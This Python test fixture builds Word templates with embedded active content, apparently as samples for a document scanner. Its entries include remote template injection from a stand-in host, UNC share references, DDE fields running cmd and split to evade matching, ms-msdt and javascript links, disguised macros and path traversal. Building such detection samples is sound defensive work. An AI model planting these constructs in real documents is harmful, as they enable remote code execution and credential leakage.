"""Templates with what Word would fetch, run or ask about when a document made from them is opened."""

from __future__ import annotations

from collections.abc import Callable

from support.files import ROOT

from generators.word.package import read_parts
from generators.word.parts import main_part, part_of, relationships_of, with_part

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
REL = f'xmlns:r="{OFFICE}"'
Parts = dict[str, bytes]


def plain() -> Parts:
    return read_parts((ROOT / "templates/task_sheet.docx").read_bytes(), "task_sheet.docx")


def in_body(xml: str) -> Parts:
    """A template with something more at the end of its last paragraph."""
    parts = plain()
    head, end, tail = parts[main_part(parts)].rpartition(b"</w:p>")
    return {**parts, main_part(parts): head + xml.encode() + end + tail}


def in_settings(xml: str) -> Parts:
    parts = plain()
    head, end, tail = parts[part_of(parts, "settings")].rpartition(b"</w:settings>")
    return {**parts, part_of(parts, "settings"): head + xml.encode() + end + tail}


def related_to(kind: str, target: str, source: str = "", *, external: bool = True) -> Parts:
    parts = plain()
    rels = relationships_of(source or main_part(parts))
    mode = ' TargetMode="External"' if external else ""
    empty = f'<Relationships xmlns="{OFFICE.replace("officeDocument", "package").replace("/relationships", "")}"/>'
    old = parts.get(rels, empty.replace("/>", "></Relationships>").encode())
    entry = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return {**parts, rels: old.replace(b"</Relationships>", entry.encode() + b"</Relationships>")}


def with_file(name: str, content: bytes, content_type: str, kind: str) -> Parts:
    parts = plain()
    names = {"kind": kind, "content_type": content_type, "rel_id": "rIdX"}
    return with_part(parts, main_part(parts), name, content, **names)


def field(*codes: str) -> str:
    """A field whose code is cut into runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


ACTIVE: dict[str, Callable[[], Parts]] = {
    "remote template": lambda: related_to("attachedTemplate", "http://a.example/x.dotm"),
    "template on a share": lambda: related_to("attachedTemplate", r"file:///\\10.0.0.1\x\y.dotm"),
    "template on a share, plainly": lambda: related_to("attachedTemplate", r"\\10.0.0.1\x\y.dotm"),
    "remote picture": lambda: related_to("image", "https://a.example/x.png"),
    "picture on a share": lambda: related_to("image", "file://10.0.0.1/x.png"),
    "picture of this computer": lambda: related_to("image", "file:///C:/x.png"),
    "remote object": lambda: related_to("oleObject", "http://a.example/x.xls"),
    "local object": lambda: related_to("oleObject", "embeddings/x.bin", external=False),
    "subdocument": lambda: related_to("subDocument", "file:///C:/x.docx"),
    "frame": lambda: related_to("frame", "http://a.example/"),
    "web page": lambda: related_to("aFChunk", "chunk.html", external=False),
    "mail merge": lambda: related_to("mailMergeSource", "file:///C:/x.csv"),
    "link to a program": lambda: related_to("hyperlink", "file:///C:/Windows/System32/calc.exe"),
    "link with a script": lambda: related_to("hyperlink", "javascript:alert(1)"),
    "link to a settings page": lambda: related_to("hyperlink", "ms-msdt:/id"),
    "remote styles": lambda: related_to("styles", "http://a.example/styles.xml"),
    "unknown relationship": lambda: related_to("somethingNew", "x.xml", external=False),
    "relationship of the package": lambda: related_to("vbaProject", "x.bin", "", external=False),
    "macros": lambda: with_file("word/vbaProject.bin", b"x", "application/vnd.ms-office.vbaProject", f"{OFFICE}/image"),
    "macros renamed": lambda: with_file("word/a.png", b"x", "application/vnd.ms-office.vbaProject", f"{OFFICE}/image"),
    "control": lambda: with_file("word/x.xml", b"<a/>", "application/vnd.ms-office.activeX+xml", f"{OFFICE}/control"),
    "embedded file": lambda: with_file("word/x.bin", b"x", "application/octet-stream", f"{OFFICE}/package"),
    "path out of the file": lambda: {**plain(), "../../x.xml": b"<a/>"},
    "altChunk": lambda: in_body(f'<w:altChunk {REL} r:id="rId1"/>'),
    "subDoc": lambda: in_body(f'<w:subDoc {REL} r:id="rId1"/>'),
    "OLE object": lambda: in_body(f'<w:r><w:object><o:OLEObject {VML} ProgID="Package"/></w:object></w:r>'),
    "form control": lambda: in_body(f'<w:r><w:pict><w:control {REL} r:id="rId1"/></w:pict></w:r>'),
    "VML picture": lambda: in_body(f'<w:r><w:pict><v:imagedata {VML} src="http://a.example/x"/></w:pict></w:r>'),
    "VML picture by href": lambda: in_body(f'<w:r><w:pict><v:imagedata {VML} o:href="//10.0.0.1/x"/></w:pict></w:r>'),
    "VML picture by a tag": lambda: in_body(f'<w:r><w:pict><v:imagedata {VML} src="{{{{ 单位 }}}}"/></w:pict></w:r>'),
    "mail merge settings": lambda: in_settings("<w:mailMerge><w:query w:val='x'/></w:mailMerge>"),
    "transformation": lambda: in_settings(f'<w:saveThroughXslt {REL} r:id="rId1"/>'),
    "simple field": lambda: in_body('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://a.example/x&quot; "/>'),
    "DDE": lambda: in_body(field("DDE cmd ", "/c calc")),
    "DDE cut into letters": lambda: in_body(field("D", "DE", "AUTO ", "c:\\\\x")),
    "field made of fields": lambda: in_body(field(field("QUOTE 68 68 69"), " c:\\\\x")),
    "text from elsewhere": lambda: in_body(field(' includetext "\\\\\\\\a\\\\b.docx"')),
    "link field": lambda: in_body(field("LINK Excel.Sheet.8 C:\\\\x.xls")),
    "macro button": lambda: in_body(field("MACROBUTTON Run 点这里")),
    "question": lambda: in_body(field('FILLIN "密码"')),
    "code without a beginning": lambda: in_body("<w:r><w:instrText>IMPORT x</w:instrText></w:r>"),
    "code made by a tag": lambda: in_body(field("{{ 单位 }}")),
    "hyperlink field": lambda: in_body(field('HYPERLINK "file:///C:/x.exe"')),
    "external file as a font": lambda: related_to("font", "http://a.example/x.odttf", part_of(plain(), "fontTable")),
    "picture of a tag's address": lambda: related_to("image", "{{ 单位 }}"),
    "picture of the old shares": lambda: related_to("image", "\\\\?\\UNC\\a\\b.png"),
    "picture by another scheme": lambda: related_to("image", "search-ms:query=x"),
    "picture of a data address": lambda: related_to("image", "data:text/html,x"),
    "header from elsewhere": lambda: related_to("header", "https://a.example/header1.xml"),
    "customUI": lambda: related_to("ui/extensibility", "customUI/customUI.xml", "", external=False),
    "web extension": lambda: related_to("webextensiontaskpanes", "taskpanes.xml", "", external=False),
    "video of the net": lambda: in_body(
        '<w:r><w:drawing><wp15:webVideoPr xmlns:wp15="urn:x" embeddedHtml="x"/></w:drawing></w:r>'
    ),
    "movie": lambda: in_body(f'<w:r><w:pict><w:movie {REL} r:id="rId1"/></w:pict></w:r>'),
    "ActiveX in the old way": lambda: in_body(f'<w:r><w:pict><w:ocx {REL} r:id="rId1"/></w:pict></w:r>'),
    "frameset": lambda: in_settings("<w:frameset/>"),
    "DATABASE field": lambda: in_body(field('DATABASE \\d "C:\\x.mdb"')),
    "GOTOBUTTON field": lambda: in_body(field("GOTOBUTTON x y")),
    "ASK field": lambda: in_body(field('ASK x "密码"')),
    "AUTOTEXT field": lambda: in_body(field("AUTOTEXT x")),
    "PRINT field": lambda: in_body(field('PRINT "x"')),
    "RD field": lambda: in_body(field("RD http://a.example/x.docx")),
    "ADDIN field": lambda: in_body(field("ADDIN x")),
    "EMBED field": lambda: in_body(field("EMBED Package")),
    "IMPORT field": lambda: in_body(field("IMPORT \\\\a\\b.png")),
    "NEXT field": lambda: in_body(field("MERGEFIELD x")),
    "field in a field in a field": lambda: in_body(field(field(field("DDEAUTO x y")))),
    "field of a text box": lambda: in_body(
        f"<w:r><w:pict><v:textbox {VML}><w:txbxContent><w:p>{field('DDE a b')}</w:p></w:txbxContent></v:textbox></w:pict></w:r>"
    ),
}
